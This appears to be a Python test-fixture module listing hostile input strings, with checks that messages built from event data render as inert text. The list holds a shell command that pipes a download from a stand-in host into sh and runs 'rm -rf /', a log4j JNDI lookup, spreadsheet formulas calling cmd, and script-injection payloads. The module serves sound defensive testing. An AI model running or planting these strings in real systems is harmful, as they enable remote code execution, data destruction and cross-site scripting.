"""Strings an attacker would put into a command line, a name or a user agent, by what they try.

Every place that shows text from events is tested with all of them; `assert_harmless` is what each
line of a message must pass.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import jinja2
from markdown_it import MarkdownIt

HOSTILE: dict[str, str] = {
    # Mentions that wake a whole channel.
    "slack channel mention": "<!channel> read this",
    "slack here mention": "<!here>",
    "slack user mention": "<@U012AB3CD>",
    "slack user group mention": "<!subteam^SAZ94GDB8>",
    "slack date markup": "<!date^1392734382^{date}^https://evil.example/|now>",
    "slack labelled link": "<https://evil.example/login|contoso.com>",
    "slack channel link": "<#C024BE7LR>",
    "everyone": "@everyone look",
    "here": "@here",
    "everyone after a letter": "x@everyone",
    "everyone as a domain": "x@everyone.com",
    "channel as a domain": "x@channel.com y@all.com",
    "everyone in capitals": "@EVERYONE",
    "a person": "thanks @alice",
    "discord role": "<@&165511591545143296>",
    "teams mention": "<at>Ana Silva</at>",
    "fullwidth at": "\uff20everyone",
    "small at": "\ufe6bhere",
    # Links.
    "markdown link": "[click here](http://evil.example/a?b=c)",
    "markdown link without a scheme": "[click here](//evil.example)",
    "markdown image": "![x](https://evil.example/p.png)",
    "markdown reference": "[a]: http://evil.example 'title'",
    "markdown autolink": "<http://evil.example>",
    "bare address": "http://evil.example/path",
    "bare address in capitals": "HTTPS://EVIL.EXAMPLE/PATH",
    "address with a port": "evil.example:8080/x",
    "address without a scheme": "evil.example/login",
    "www": "www.evil.example",
    "javascript link": "[x](javascript:alert(1))",
    "data link": "data:text/html;base64,PHNjcmlwdD4=",
    "mailto link": "mailto:ceo@evil.example",
    "file link": "file://evil.example/share",
    "unc path": "\\\\evil.example\\share\\x.pst",
    "punycode": "xn--80ak6aa92e.xn--p1ai/login",
    "ftp": "ftp://user:pass@evil.example/",
    "two halves of a link": "http:\n//evil.example",
    # Markdown and HTML.
    "strong": "**owned** __owned__",
    "emphasis": "*owned* _owned_",
    "strike": "~~gone~~ ~gone~",
    "code": "`x` ``y`` ```z```",
    "code fence": "```\nrm -rf /\n```",
    "heading": "# OWNED",
    "small heading": "-# OWNED",
    "underlined heading": "owned\n=====",
    "rule": "---",
    "list": "- one\n- two",
    "numbered list": "1. one",
    "quote": "> quoted",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "spoiler": "||hidden||",
    "emoji": ":rotating_light: :+1: ok",
    "script": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "vector picture": "<svg/onload=alert(1)>",
    "attribute break": '" onmouseover="alert(1)',
    "comment": "<!-- hidden -->",
    "cdata": "<![CDATA[x]]>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entity": "&#60;script&#62; &#x3c;b&#x3e;",
    "entity without an end": "&ltscript&gt",
    "fullwidth script": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "iframe": "</td></table><iframe src='//evil.example'>",
    "backslash before markup": "\\*owned\\* \\[x\\](http://evil.example)",
    # Terminals.
    "ansi colour": "\x1b[31mred\x1b[0m",
    "ansi clear": "\x1b[2J\x1b[H",
    "osc title": "\x1b]0;owned\x07",
    "osc hyperlink": "\x1b]8;;http://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "osc clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "c1 csi": "\x9b31mred",
    "c1 osc": "\x9d0;owned\x9c",
    "device control": "\x1bP1000p\x1b\\",
    "backspaces": "evil\x08\x08\x08\x08good",
    "carriage return": "evil command\rgood command",
    "null": "a\x00b",
    "bell": "\x07",
    "delete": "a\x7fb",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "rich markup": "[bold red]owned[/] [link=http://evil.example]x[/link]",
    # Lines.
    "newline": "one\n2026-01-05 ERROR forged line",
    "windows newline": "one\r\ntwo",
    "next line": "one\x85two",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "tab": "a\tb",
    # Order and invisible characters.
    "bidi override": "user\u202etxt.exe",
    "bidi isolate": "\u2066a\u2069 \u2067b\u2069",
    "bidi embedding": "\u202aa\u202c \u202bb\u202c \u202dc\u202c",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "pass\u200bword\u200c\u200d\u2060\ufeff",
    "soft hyphen": "pay\u00adpal",
    "tag characters": "a\U000e0041\U000e0042",
    "lone surrogate": "a\ud800b",
    "homoglyph": "\u0440\u0430ypal",
    # Spreadsheets.
    "formula": "=cmd|'/C calc'!A0",
    "formula with a link": '=HYPERLINK("http://evil.example","x")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at formula": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a newline": "\n=1+1",
    "formula after blanks": "  =1+1",
    "fullwidth formula": "\uff1d1+1",
    "formula in a second cell": 'x","=1+1',
    # Templates, queries, commands.
    "jinja": "{{7*7}} {% for x in y %} {# c #}",
    "format": "{0.__class__.__mro__} {name}",
    "expression": "${7*7} #{7*7}",
    "log4j": "${jndi:ldap://evil.example/a}",
    "erb": "<%= 7*7 %>",
    "percent": "%s%s%n %(name)s",
    "sql": "'; drop table findings; --",
    "shell": "$(curl evil.example|sh) `id` ; rm -rf /",
    "slash command": "/remind me",
    "bot command": "!deploy now",
    "json break": '"}, "severity": "low", {"x": "',
    # Length.
    "long": "A" * 40_000,
    "long domains": "a." * 20_000,
    "long brackets": "[" * 20_000,
    "empty": "",
    "blank": "   ",
}

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def unseen(text: str) -> list[str]:
    """Characters that act instead of being shown, line breaks of ours aside."""
    return [one for one in text if one not in "\n\t" and unicodedata.category(one) in
            {"Cc", "Cf", "Cs", "Zl", "Zp"}]  # fmt: skip


class Tags(HTMLParser):
    """Everything in a text that an HTML parser takes for more than characters."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=False)
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:  # noqa: ARG002 - html.parser's signature
        self.found.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.found.append(data)

    def handle_pi(self, data: str) -> None:
        self.found.append(data)

    def handle_entityref(self, name: str) -> None:
        self.found.append(name)

    def handle_charref(self, name: str) -> None:
        self.found.append(name)


def links(text: str) -> list[str]:
    """What chat programs turn into links or mentions, plain mail addresses aside."""
    patterns = [
        r"\w+://\S", r"(?<![a-z0-9])www\.\w", r"\\\\\w",
        r"(?<![a-z0-9])(?:javascript|data|mailto|file|tel):\S",
        r"(?<![\w.])(?:[\w-]+\.)+(?:[a-z]{2,}|xn--[\w-]+)(?:/|[:?]\S)", r"@everyone|@here",
        r"@(?:channel|all)\b", r"(?<![a-z0-9])@", r"@(?![a-z0-9-]+\.[a-z0-9])",
    ]  # fmt: skip
    return [one for pattern in patterns for one in re.findall(pattern, text, re.IGNORECASE)]


def assert_harmless(shown: str) -> None:
    """No outlet for messages finds anything in the text but characters."""
    assert unseen(shown) == []
    assert "\n" not in shown
    assert "\t" not in shown
    for form in (shown, unicodedata.normalize("NFKC", shown)):
        assert links(form) == []
        assert Tags(form).found == []
        assert not set("<>[]{}*`#~") & set(form)
    assert plain_markdown(shown)
    assert jinja2.Template(shown).render() == shown
    assert shown.format() == shown


def plain_markdown(source: str) -> bool:
    """True when Markdown makes one paragraph of plain text of it, or nothing of blanks."""
    tokens = MARKDOWN.parse(source)
    blocks = [token.type for token in tokens]
    inner = [child.type for token in tokens for child in token.children or ()]
    return blocks in ([], ["paragraph_open", "inline", "paragraph_close"]) and set(inner) <= {
        "text"
    }
